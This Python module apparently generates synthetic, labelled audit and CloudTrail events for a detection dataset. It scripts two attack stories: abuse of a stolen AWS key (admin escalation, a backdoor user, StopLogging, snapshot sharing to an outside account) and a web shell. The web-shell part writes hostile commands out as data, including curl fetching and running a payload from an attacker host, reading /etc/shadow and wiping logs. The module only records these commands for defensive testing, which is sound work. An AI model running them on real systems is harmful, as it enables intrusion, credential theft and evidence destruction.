"""The attacks of the sample hour: what the attacker does, step by step, and as what it counts.

Both follow reports that anyone can read: the cloud story is the usual course after an
access key leaks (discovery, escalation, persistence, then data), the host story the
usual course after a web application is made to run commands.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from functools import partial
from random import Random
from typing import Any, NamedTuple

from sentinel.sample import auditd, cloudtrail
from sentinel.sample.company import ACCOUNT, PEOPLE, Actor

ATTACKER_IP = "203.0.113.66"
ATTACKER_AGENT = "aws-cli/1.22.34 Python/3.10.12 Linux/6.8.11-kali-generic botocore/1.27.84"
VICTIM = next(person for person in PEOPLE if person.name == "kim")
ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"
OUTSIDE_ACCOUNT = "444455556666"
WEB_UID = 33


class Label(NamedTuple):
    """Ground truth of one event; `story`, `step` and `technique` are empty for benign ones."""

    attack: bool
    story: str = ""
    step: str = ""
    technique: str = ""


class Planned(NamedTuple):
    """Something that will happen on a host: `write` gives its id and records, in order of time."""

    time: float
    write: Callable[[auditd.Log], tuple[str, bytes]]
    label: Label


class Step(NamedTuple):
    """One call of the cloud story."""

    step: str
    technique: str
    service: str
    name: str
    read_only: bool
    parameters: dict[str, Any] | None = None
    error: str = ""


def _bucket(key: str) -> dict[str, str]:
    return {"bucketName": "acme-lake", "key": key}


_USER = {"userName": VICTIM.name}
_HELPER = {"userName": "svc-support"}
KEY_STORY = (
    Step("stolen key", "T1078.004", "sts", "GetCallerIdentity", True),
    Step("enumeration", "T1087.004", "iam", "ListUsers", True),
    Step("enumeration", "T1069.003", "iam", "ListRoles", True),
    Step("enumeration", "T1069.003", "iam", "ListAttachedUserPolicies", True, _USER),
    Step("enumeration", "T1087.004", "iam", "GetAccountAuthorizationDetails", True,
         None, "AccessDenied"),
    Step("enumeration", "T1580", "ec2", "DescribeInstances", True),
    Step("enumeration", "T1580", "ec2", "DescribeSnapshots", True),
    Step("enumeration", "T1619", "s3", "ListBuckets", True),
    Step("enumeration", "T1526", "secretsmanager", "ListSecrets", True, None,
         "AccessDeniedException"),
    Step("privilege escalation", "T1098.003", "iam", "AttachUserPolicy", False,
         _USER | {"policyArn": ADMIN_POLICY}),
    Step("persistence", "T1136.003", "iam", "CreateUser", False, _HELPER),
    Step("persistence", "T1098.003", "iam", "AttachUserPolicy", False,
         _HELPER | {"policyArn": ADMIN_POLICY}),
    Step("persistence", "T1098.001", "iam", "CreateAccessKey", False, _HELPER),
    Step("persistence", "T1098.001", "iam", "CreateLoginProfile", False, _HELPER),
    Step("defence evasion", "T1562.008", "cloudtrail", "StopLogging", False,
         {"name": f"arn:aws:cloudtrail:eu-west-1:{ACCOUNT}:trail/main"}),
    Step("exfiltration", "T1537", "ec2", "ModifySnapshotAttribute", False, {
        "snapshotId": "snap-0d1e2f3a4b5c6d7e8", "attributeType": "CREATE_VOLUME_PERMISSION",
        "createVolumePermission": {"add": {"items": [{"userId": OUTSIDE_ACCOUNT}]}}}),
    *(Step("exfiltration", "T1530", "s3", "GetObject", True, _bucket(f"raw/part-{n:04}"))
      for n in range(40)),
)  # fmt: skip
WEB_STORY: tuple[tuple[str, str, tuple[str, ...], int], ...] = (
    ("web shell", "T1505.003", ("/bin/sh", "-c", "id; uname -a"), WEB_UID),
    ("web shell", "T1033", ("whoami",), WEB_UID),
    ("web shell", "T1082", ("uname", "-a"), WEB_UID),
    ("download", "T1105", ("curl", "-fsSL", "http://203.0.113.80/k", "-o", "/tmp/.k"), WEB_UID),
    ("download", "T1222.002", ("chmod", "+x", "/tmp/.k"), WEB_UID),
    ("privilege escalation", "T1068", ("/tmp/.k",), WEB_UID),
    ("privilege escalation", "T1548.001", ("chmod", "u+s", "/tmp/.sh"), 0),
    ("credential access", "T1003.008", ("cat", "/etc/shadow"), 0),
    ("persistence", "T1053.003", ("crontab", "/tmp/.c"), 0),
    ("log wiping", "T1562.012", ("auditctl", "-D"), 0),
    ("log wiping", "T1070.002", ("rm", "-f", "/var/log/auth.log", "/var/log/nginx/access.log"), 0),
    ("log wiping", "T1070.003", ("/bin/sh", "-c", "history -c; rm -f /root/.bash_history"), 0),
)


def stolen_key(random: Random, start: float) -> Iterator[tuple[float, str, bytes, Label]]:
    """Yield time, id, record and label of each call made with the stolen key from `start` on."""
    time = start
    attacker = Actor(VICTIM.name, True, ATTACKER_IP, ATTACKER_AGENT, 0, ())
    for step in KEY_STORY:
        time += random.expovariate(1 / (1.5 if step.step == "exfiltration" else 12))
        ident, raw = cloudtrail.record(
            random,
            time,
            attacker,
            step.service,
            step.name,
            read_only=step.read_only,
            parameters=step.parameters,
            error=step.error,
        )
        yield time, ident, raw, Label(True, "stolen-key", step.step, step.technique)


def web_shell(random: Random, start: float) -> Iterator[Planned]:
    """Plan what is done through the web shell from `start` on."""
    time = start
    for step, technique, argv, uid in WEB_STORY:
        time += random.expovariate(1 / 15)
        write = partial(
            auditd.Log.command,
            time=time,
            argv=argv,
            uid=WEB_UID if argv[0] == "/tmp/.k" else uid,
            euid=uid,
            auid=auditd.UNSET,
            cwd="/var/www/html",
            parent=842,
        )
        yield Planned(time, write, Label(True, "web-shell", step, technique))
    wipe = partial(
        auditd.Log.file,
        time=time + 1,
        path="/var/log/audit/audit.log",
        exe="/usr/bin/rm",
        uid=0,
        auid=auditd.UNSET,
        key="auditlog",
        delete=True,
    )
    yield Planned(time + 1, wipe, Label(True, "web-shell", "log wiping", "T1070.002"))
